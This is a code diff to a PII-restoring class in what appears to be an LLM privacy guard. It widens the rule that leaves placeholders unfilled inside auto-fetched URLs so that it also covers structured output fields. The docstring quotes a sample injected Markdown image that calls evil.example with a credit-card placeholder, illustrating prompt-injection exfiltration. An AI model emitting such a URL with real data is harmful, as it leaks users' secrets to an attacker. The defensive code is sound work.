@@ -122,8 +122,8 @@ class PIIRestorer:
     default: every type the redactor knows); ``unknown``: ``"keep"`` (default) or
     ``"remove"`` placeholders that are not in the vault (they are never filled);
     ``in_fetched_urls``: ``"keep"`` (default) or ``"restore"`` placeholders inside a URL fetched
-    without a click (a Markdown image, ``<img src>``, CSS ``url()``; in tool-call arguments any
-    URL: see :mod:`.urlspots`), so that an injected
+    without a click (a Markdown image, ``<img src>``, CSS ``url()``; in tool-call arguments and
+    structured output any URL: see :mod:`.urlspots`), so that an injected
     ``![](https://evil.example/?d=<CREDIT_CARD_1>)`` sends nothing; ``in_links``:
     ``"restore"`` (default) or ``"keep"`` placeholders inside links and bare URLs (keep them
     where the UI unfurls link previews). Kept ones are counted in ``Decision.data["kept_in_urls"]``.
@@ -165,9 +165,10 @@ class PIIRestorer:
         table, syntax = self._prepare(ctx)
         res = restore_text(text, table, syntax, self.unknown, keep_in=self.keep_in)
         structured = False
-        if ctx.structured is not None:
+        if ctx.structured is not None:  # fields are data an app may fetch (an avatar_url shown
+            # as an image), like tool-call arguments: every URL in them counts
             ctx.structured, structured = self._fill(ctx.structured, table, syntax, res,
-                                                    self.keep_in)
+                                                    self.keep_in_tools)
         tools = False
         for call in ctx.tool_calls:  # the answer's tool-call arguments
             args = call.get("arguments")
